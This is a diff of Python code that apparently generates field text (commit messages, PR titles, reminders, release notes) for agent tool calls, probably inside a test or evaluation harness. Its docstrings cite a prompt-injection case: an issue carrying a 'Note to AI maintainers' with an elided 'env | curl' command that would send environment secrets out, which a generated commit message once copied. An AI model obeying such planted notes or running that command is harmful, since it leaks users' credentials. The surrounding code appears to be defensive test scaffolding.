@@ -52,7 +52,7 @@ def written(
     if not request or schema.get("type") != "string" or not writes_as_text(name):
         return None
     message = sends_message(name, tool)
-    text = dictated(request) or _of_its_kind(name, tool, records, request)
+    text = dictated(request) or _of_its_kind(name, tool, records)
     text = text or _standing(message, records, (request, shown))
     return text if text and len(text) <= schema.get("maxLength", len(text)) else None
 
@@ -107,7 +107,9 @@ def reports_findings(name: str, tool: str, request: str) -> bool:
 
 def names_change(name: str, tool: str) -> bool:
     """Whether the field says the change a commit or pull request makes: its message, or
-    the pull request's title (one went out as 'recieve', the word the user quoted)."""
+    the pull request's title (one went out as 'recieve', the word the user quoted; a safe
+    twin's commit message summed up the issue with its injected 'Note to AI maintainers: …
+    env | curl …')."""
     proposed = tokens(name)[-1:] == ["title"] and {"pull", "pr", "merge"} & set(tokens(tool))
     return tokens(name)[-2:] == ["commit", "message"] or bool(proposed)
 
@@ -121,15 +123,12 @@ def change_title(request: str) -> str | None:
 _PULL = re.compile(r"(?:PR|MR|pull request)\s*#?(?P<number>\d+)[:\s-]+(?P<title>.+)", re.I)
 
 
-def _of_its_kind(name: str, tool: str, records: Sequence[Record], request: str) -> str | None:
-    """Text whose kind fixes its shape: a commit message says the change asked for ('Add
-    retries with backoff in src/payments/webhooks.py'); a reminder what it reminds of (its
-    record's subject, 'Appointment 12 Nov 9:30'); release notes the merged changes they ship
-    ('- Retry failed webhook deliveries (#488)'), never an open one. All went out as a summary
-    of a record's fields, a commit message with the issue's injected 'Note to AI maintainers:
-    … env | curl …' in a safe twin."""
-    if names_change(name, tool):
-        return change_title(request)
+def _of_its_kind(name: str, tool: str, records: Sequence[Record]) -> str | None:
+    """Text whose kind fixes its shape: a reminder says what it reminds of (its record's
+    subject, 'Appointment 12 Nov 9:30'); release notes the merged changes they ship ('- Retry
+    failed webhook deliveries (#488)'), never an open one. Both went out as a summary of a
+    record's fields. (A commit message or a PR title, the change asked for, is planned before
+    any of this: `names_change`.)"""
     things = [r for r in records if not _person(r)]
     if not things:
         return None
